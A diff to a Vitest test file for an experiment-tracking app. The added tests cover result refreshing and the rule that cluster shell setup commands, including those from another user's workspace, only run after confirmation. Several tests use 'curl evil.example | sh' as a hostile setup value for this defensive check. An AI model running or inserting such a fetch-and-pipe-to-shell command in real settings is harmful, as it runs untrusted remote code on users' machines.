@@ -1,13 +1,18 @@
-import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { expect, test, vi } from 'vitest';
+import { afterEach, expect, onTestFinished, test, vi } from 'vitest';
+import { LabError } from '../../shared/errors.ts';
 import type { Experiment } from '../../shared/experiment.ts';
 import { slurmSettingsSchema } from '../../shared/places.ts';
 import { fileStem } from '../../src-main/lab/export/fileName.ts';
+import { openLabToRead } from '../../src-main/lab/service.ts';
 import { everyGroup, usualExport } from '../../shared/result.ts';
 import { esam, experimentOf, sam, sgd, shared } from './fixtures/configs.ts';
+import { labOptions } from './fixtures/labOptions.ts';
 import { openTestLab, statesOf, temporaryFolder, untilEnded } from './fixtures/labs.ts';
 import { scripts } from './fixtures/scripts.ts';
+
+afterEach(() => void vi.unstubAllEnvs());
 
 type Lab = Awaited<ReturnType<typeof openTestLab>>['lab'];
 
@@ -128,6 +133,28 @@ test('an experiment whose model cannot take the images is refused with the reaso
   expect(await lab.runs({ experimentId: null })).toEqual([]);
 });
 
+test('what was asked before is answered anew once anything was written, also for one who looks from beside', async () => {
+  const { lab, folder } = await openTestLab();
+  const { runIds } = await trainAll(lab, experimentOf({ seeds: [1] }));
+  const beside = await openLabToRead(labOptions(folder), new LabError('WORKSPACE_BUSY', 'Only looked at.'));
+  onTestFinished(() => beside.close());
+  const query = everyGroup;
+  const seen = async (asked: Lab) => {
+    const [{ rows }, curves, runs] = await Promise.all([
+      asked.results(query),
+      asked.curves({ query, metric: 'testAccuracy', axis: 'epoch', relativeTo: null }),
+      asked.runs({ experimentId: null }),
+    ]);
+    return [rows[0]?.n, curves[0]?.points[0]?.n, runs.map(({ experimentName }) => experimentName)];
+  };
+  const both = async () => [await seen(lab), await seen(beside)];
+  expect(await both()).toEqual(Array(2).fill([1, 1, ['Test']]));
+  await trainAll(lab, experimentOf({ seeds: [2] }));
+  expect(await both()).toEqual(Array(2).fill([2, 2, ['Test', 'Test']]));
+  await lab.deleteRuns({ runIds, deleted: true });
+  expect(await both()).toEqual(Array(2).fill([1, 1, ['Test']]));
+});
+
 test('only what the user has chosen can be imported, links included', async () => {
   const { lab } = await openTestLab();
   const folder = temporaryFolder();
@@ -151,6 +178,7 @@ test('only what the user has chosen can be imported, links included', async () =
 });
 
 test('what a cluster’s shell runs is changed once it was confirmed outside the page; the rest is not asked for', async () => {
+  vi.stubEnv('XDG_STATE_HOME', temporaryFolder());
   const { lab } = await openTestLab();
   const settings = slurmSettingsSchema.parse({ partition: 'long', setup: ['curl evil.example | sh'] });
   await expect(lab.changePlace({ id: 'slurm', settings })).rejects.toMatchObject({ code: 'PLACE_NOT_CONFIRMED' });
@@ -161,6 +189,34 @@ test('what a cluster’s shell runs is changed once it was confirmed outside the
   });
   await lab.changePlace({ id: 'slurm', settings: { ...settings, cores: 2 } });
   expect((await lab.places({}))[0]?.settings).toEqual({ ...settings, cores: 2 });
+});
+
+test('what a workspace from somebody else has a shell run for its cluster is run once this user has confirmed it', async () => {
+  const commands = temporaryFolder();
+  const asked = join(commands, 'asked');
+  writeFileSync(join(commands, 'sbatch'), `#!/bin/sh\necho "$@" >>${asked}\necho slurm-wlm 22\n`, { mode: 0o755 });
+  vi.stubEnv('PATH', `${commands}:${process.env['PATH'] ?? ''}`);
+  vi.stubEnv('XDG_STATE_HOME', temporaryFolder());
+  const theirs = await openTestLab();
+  await theirs.lab.pauseQueue({ paused: true });
+  const settings = slurmSettingsSchema.parse({ setup: ['curl evil.example | sh'] });
+  theirs.lab.setPlace('slurm', settings);
+  await theirs.lab.enqueue({ ...experimentOf(), place: 'slurm' });
+  await theirs.lab.close();
+
+  rmSync(asked, { force: true });
+  vi.stubEnv('XDG_STATE_HOME', temporaryFolder()); // another user's
+  const { lab } = await openTestLab(theirs.folder, { clusterTimes: { readEveryMs: 20, askEveryMs: 20 } });
+  await lab.pauseQueue({ paused: false });
+  const problem = async (): Promise<string | undefined> => (await lab.queue({})).placeProblem;
+  await expect.poll(problem).toMatch(/set by somebody else, or on another machine.*places confirm slurm/);
+  await lab.changePlace({ id: 'slurm', settings: { ...settings, cores: 2 } }); // as a page may
+  expect((await lab.places({}))[0]).toMatchObject({ version: null, isConfirmed: false });
+  await expect(lab.testPlace({ id: 'slurm' })).rejects.toMatchObject({ code: 'PLACE_NOT_CONFIRMED' });
+  expect(existsSync(asked)).toBe(false);
+  lab.confirmPlace('slurm', settings);
+  await expect.poll(() => existsSync(asked)).toBe(true);
+  expect((await lab.places({}))[0]).toMatchObject({ version: 'slurm-wlm 22', isConfirmed: true });
 });
 
 test('a data set that a run waits for is not deleted', async () => {
